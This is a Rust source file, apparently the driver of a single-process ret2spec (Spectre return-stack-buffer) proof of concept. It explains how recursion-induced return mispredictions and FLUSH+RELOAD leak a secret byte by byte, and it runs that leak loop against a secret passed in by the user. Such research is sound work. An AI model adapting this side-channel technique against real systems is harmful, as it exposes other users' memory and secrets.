use clap::Parser;
use ret2spec::*;

/// ret2spec, single process.
///
/// Context
/// =======
///
/// The RSB has a limited number of entries, and recursion deeper than that
/// overwrites all of them.
///
/// Test
/// ====
///
/// 1. `always_true` recurses `--depth` times. At the bottom it calls
///    `always_false`, which recurses `--depth` times as well and fills the
///    RSB with return addresses into itself.
///
/// 2. All returns of `always_false` are predicted correctly. The returns of
///    `always_true` are not: each one is predicted to land after a
///    recursive `always_false` call, in a branch that is unreachable since
///    `always_false` can never return true.
///
/// 3. Before returning, each `always_true` frame flushes its stack region
///    (and the stored return address) so the misprediction window is long
///    enough for the unreachable branch to touch the oracle.
///
/// Results
/// =======
///
/// The secret is recovered byte-by-byte with FLUSH+RELOAD on the oracle.
///
#[derive(Parser)]
#[command(verbatim_doc_comment)]
struct Args {
    #[command(flatten)]
    leak: LeakArgs,
}

fn main() {
    env_logger::init();
    let args = Args::parse();
    let code = match run(&args.leak) {
        Ok(_) => EXIT_SUCCESS,
        Err(e) => {
            eprintln!("\n[!] {}", e);
            e.exit_code()
        },
    };
    std::process::exit(code);
}

fn run(args: &LeakArgs) -> Result<Vec<u8>> {
    let cfg = LeakConfig::from_cmdline_args(args, Variant::SingleProcess);
    let secret = args.secret_bytes();

    if let Some(core) = cfg.pinned_core {
        RsbEnv::pin_to_core(core)?;
    }
    let channel = FlushReload::new(cfg.min_lead)?;
    log::info!("hit threshold: {} cycles", channel.threshold());

    let mut leak = LeakLoop::new(channel, &secret, cfg)?;
    let leaked = leak.leak_and_report(&mut std::io::stdout().lock())?;
    if args.hexdump {
        println!("{}", pretty_hex::pretty_hex(&leaked));
    }
    Ok(leaked)
}
